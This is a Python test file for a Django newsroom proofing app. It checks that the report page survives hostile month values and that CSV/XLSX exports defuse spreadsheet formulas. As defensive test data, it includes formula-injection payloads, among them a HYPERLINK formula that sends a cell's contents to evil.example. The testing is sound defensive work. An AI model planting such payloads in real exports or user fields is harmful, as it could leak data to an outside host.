"""The report's ?month= never answers 500, and exported CSV/XLSX never carry a live formula."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from rongmei.proofing import services
from rongmei.proofing.engine import findings as f
from rongmei.proofing.models import Term, WordList
from rongmei.testing import login
from rongmei.website.tests.hostile import HOSTILE_VALUES

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]


def test_report_month_with_hostile_values_never_gives_a_server_error(client, newsroom):
    login(client, newsroom.chief)
    client.raise_request_exception = False
    failures = []
    for value in HOSTILE_VALUES:
        for fmt in ("", "csv"):
            response = client.get(reverse("proofing_report"), {"month": value, "format": fmt})
            if response.status_code >= 500:
                failures.append((value[:30], fmt, response.status_code))
    assert failures == []


@pytest.mark.parametrize("month", ["9999-12", "0001-01", "1-1"])
def test_report_month_at_the_ends_of_the_calendar_is_refused_with_a_message(client, newsroom, month):
    login(client, newsroom.chief)
    with translation.override("en"):
        response = client.get(reverse("proofing_report"), {"month": month}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    assert "error-message" in response.content.decode()


def test_exported_terms_cannot_run_as_formulas_and_still_import_as_typed(newsroom):
    source = WordList.objects.create(name="违禁词库", category=f.BANNED, severity=f.BLOCK)
    for term in FORMULAS:
        Term.objects.create(word_list=source, term=term.strip(), suggestion="=1+1", note="@me")

    csv_bytes = services.export_terms(source, "csv")
    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))[1:]
    cells = [cell for row in rows for cell in row[:3]]
    assert cells and all(cell.startswith("'") for cell in cells), cells

    sheet = load_workbook(io.BytesIO(services.export_terms(source, "xlsx"))).active
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row[:3]]
    assert values and all(cell.data_type == "s" for cell in values)  # text, not "f" (formula)

    copy = WordList.objects.create(name="副本", category=f.BANNED, severity=f.BLOCK)
    report = services.import_terms(copy, SimpleUploadedFile("e.csv", csv_bytes), acting_user=None)
    assert report.created == len(FORMULAS) and not report.errors
    assert sorted(copy.terms.values_list("term", flat=True)) == sorted(t.strip() for t in FORMULAS)
    assert set(copy.terms.values_list("suggestion", "note")) == {("=1+1", "@me")}


def test_report_csv_guards_a_formula_in_a_staff_name(client, review):
    from rongmei.newsroom.models import StoryPage
    from rongmei.proofing.models import ProofCheck
    from rongmei.review import services as review_services

    WordList.objects.create(name="违禁词", category=f.BANNED, severity=f.BLOCK).terms.create(term="内部绝密")
    reporter = review.reporter
    profile = reporter.staff_profile
    profile.display_name = '=HYPERLINK("http://evil.example")'
    profile.save()
    story = review.add_story(title="测试", body="<p>内部绝密外泄。</p>")
    review_services.submit_for_review(story, acting_user=reporter)
    assert ProofCheck.objects.filter(story=StoryPage.objects.get(pk=story.pk)).exists()
    login(client, review.chief)
    text = client.get(reverse("proofing_report"), {"format": "csv"}).content.decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(text)) if row and "HYPERLINK" in row[0]]
    assert names and all(name.startswith("'=") for name in names), text
